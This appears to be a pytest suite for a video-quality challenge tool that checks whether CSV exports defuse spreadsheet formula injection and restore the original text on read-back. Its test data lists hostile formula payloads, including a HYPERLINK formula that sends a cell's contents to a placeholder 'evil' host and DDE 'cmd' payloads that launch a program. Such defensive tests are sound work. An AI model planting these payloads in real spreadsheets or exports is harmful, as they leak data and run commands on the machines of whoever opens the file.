"""CSV that a spreadsheet opens without running text of strangers, and that is read back as it was."""

from __future__ import annotations

import csv
import io
import re
import time
from pathlib import Path

import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

from sfqa import cli
from sfqa.csv_text import defuse_cell, format_frame, restore_cell, write_rows
from sfqa.user_tables import read_table
from submissions import pack, write_lines

ROOT = Path(__file__).parents[2]
FORMULAS = [
    '=HYPERLINK("http://evil/?"&A1,"x")', "+1+1", "@SUM(1)", "=cmd|' /C calc'!A0", "-2+3+cmd|' /C'!A0",
    "\t=1", "\r=1", "'=1", "''+x", " =1", "\n=1", "\u00a0=1", "\u3000+1", "\ufeff=1", "\x00=1", "\u200b@a",
    "\u00ad-a", "\U000e0041=1", "\ufe0f=1", "\u3164=1", "\u2800=1", "\x1f=1", "\x85=1", "\u2028=1", "\uff1d1+1",
    "\uff0b1", "\uff0d1", "\uff20SUM(1)", "\ufe661", "\u22121+1", " \ufeff \u200b=1", "-1;=1", "-1\n=1",
]  # fmt: skip
NUMBERS = ["-1.5", "+2", "-1e-7", "-.5", "-1,234.5", "-12 %", "-inf", "+nan", "-", "+", "1", ""]
START = tuple("=+-@\t\r")


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_becomes_text_and_comes_back(text: str) -> None:
    cell = defuse_cell(text)
    assert not cell.startswith(START)
    assert restore_cell(cell) == text


@pytest.mark.parametrize("cell", ["a;{}", "a;b; {};c", "a\t{}", "a\n{}", "-1;{}", "=1;{}", "\t;{}"])
@pytest.mark.parametrize("formula", ["=1+1", "@x", "'=1", "\u200b=1", "-1+1"])
def test_a_formula_where_a_program_may_split_the_cell(cell: str, formula: str) -> None:
    text = cell.format(formula)
    defused = defuse_cell(text)
    assert f";{text}" != defused
    for part in re.split("[;\t\n\r]", defused):
        assert part in NUMBERS or not re.sub(r"[\s\u200b]", "", part).startswith(START)
    assert restore_cell(defused) == text


@pytest.mark.parametrize(
    "text",
    [
        "1;-2;-.5",
        "1.5;x",
        "-",
        "-;+",
        " -1.5",
        "-1 ; +2e5 ",
        "a - b",
        "a = b; c",
        "a@b.c; d",
        "1-2",
    ],
)
def test_lists_of_numbers_and_signs_inside_of_words_stay(text: str) -> None:
    assert defuse_cell(text) == text


@pytest.mark.parametrize(
    "text",
    [
        "1" + " " * 50_000 + "x",
        "-" + "1" * 50_000 + "x",
        " " * 50_000,
        ";" * 50_000,
        "'" * 20_000,
        " ;" * 20_000 + "=",
        "\ufeff" * 50_000 + "a",
    ],
)
def test_a_long_cell_takes_no_time(text: str) -> None:
    started = time.process_time()
    assert restore_cell(defuse_cell(text)) == text
    assert time.process_time() - started < 0.5


@pytest.mark.parametrize("text", [*NUMBERS, "a", "'quoted'", "a=1", "歌"])
def test_numbers_and_other_texts_stay(text: str) -> None:
    assert defuse_cell(text) == text
    assert restore_cell(text) == text
    assert defuse_cell(-1.5) == -1.5


@given(st.text("'=+-@\t\r\na1.; %e\ufeff\uff1d", max_size=8))
def test_every_text_comes_back(text: str) -> None:
    cell = defuse_cell(text)
    assert restore_cell(cell) == text


def test_a_frame_has_harmless_cells_and_columns_and_the_same_numbers() -> None:
    frame = pd.DataFrame({
        "=name": FORMULAS[:2], "score": [-1.5, 2.25], "mixed": [-0.5, "@x"], "count": [-3, 4],
    })  # fmt: skip
    text = format_frame(frame, float_format="%.2f")
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[0] == ["'=name", "score", "mixed", "count"]
    assert [row[1] for row in rows[1:]] == ["-1.50", "2.25"]
    assert [row[2:] for row in rows[1:]] == [["-0.5", "-3"], ["'@x", "4"]]
    plain = pd.DataFrame({"name": ["a", "b"], "score": [-1.5, None], "mixed": [None, 2.5]})
    assert format_frame(plain) == plain.to_csv(index=False, lineterminator="\n")


def test_tables_that_this_program_wrote_are_read_as_they_were(tmp_path: Path) -> None:
    texts = [text for text in FORMULAS if not re.search(r"[\x00-\x1f\x7f-\x9f]", text)]
    texts += ["a;=1", "-1.5", "'a'"]
    for suffix in (".csv", ".txt"):
        path = tmp_path / f"t{suffix}"
        with open(path, "w", newline="", encoding="utf-8") as file:
            write_rows(file, ["video", "=score"], [[text, -1.5] for text in texts])
        assert not any(line.startswith(START) for line in path.read_text("utf-8").split("\n")[1:-3])
        table = read_table(path)
        assert table.columns["video"] == texts
        assert list(table.columns) == ["video", "=score"]


def list_formula_cells(text: str) -> list[str]:
    return [
        cell for row in csv.reader(io.StringIO(text)) for cell in row
        if cell.startswith(START) and cell not in NUMBERS
        and not cell.lstrip("-").replace(".", "", 1).isdigit()
    ]  # fmt: skip


def test_a_leaderboard_of_strangers_has_no_formulas(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    names = [f"v{n}.mp4" for n in range(8)]
    (tmp_path / "subs").mkdir()
    phase = tmp_path / "phase.csv"
    phase.write_text("name,mos\n" + "".join(f"{name},{n}\n" for n, name in enumerate(names)))
    readme = (
        f"runtime per video [s] : {FORMULAS[0]}\nCPU[1] / GPU[0] : +1+1\n"
        f"Other description : {FORMULAS[3]}\n"
    )
    scores = {name: n * 1.1 + n % 3 for n, name in enumerate(names)}
    for team in ("team", "=1+1", "@SUM(1)"):
        pack(tmp_path / "subs" / f"{team}.zip", {
            "output.txt": write_lines(scores), "readme.txt": readme,
        })  # fmt: skip
    arguments = ["challenge", "leaderboard", str(tmp_path / "subs"), "--phase", str(phase)]
    assert cli.main([*arguments, "--format", "csv"]) == 0
    text = capsys.readouterr().out
    assert "'=HYPERLINK" in text
    assert "'@SUM(1)" in text
    assert list_formula_cells(text) == []


def test_mos_of_strangers_have_no_formulas(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    rows = [
        [rater, video, "=1+1", score]
        for rater in ("=r1", "@r2", "+r3")
        for video, score in (("=v1", 1), ("-v2+3", 3), ("v3", 5))
    ]
    path = tmp_path / "scores.csv"
    with open(path, "w", newline="", encoding="utf-8") as file:
        write_rows(file, ["rater", "sample_id", "dimension", "score"], rows)
    out = tmp_path / "mos.csv"
    assert cli.main(["mos", str(path), "--out", str(out), "--scale", "1,5"]) == 0, (
        capsys.readouterr().err
    )
    text = out.read_text(encoding="utf-8")
    assert list_formula_cells(text) == []
    table = read_table(out)
    assert set(table.columns["sample_id"]) == {"=v1", "-v2+3", "v3"}
    assert set(table.columns["dimension"]) == {"=1+1"}


def test_every_csv_is_written_by_the_same_writer() -> None:
    package = ROOT / "workflow" / "scripts" / "sfqa"
    writers = {
        path.relative_to(package).as_posix()
        for path in package.rglob("*.py")
        if any(call in path.read_text() for call in (".to_csv(", "csv.writer(", "csv.DictWriter("))
    }
    assert writers == {"csv_text.py"}
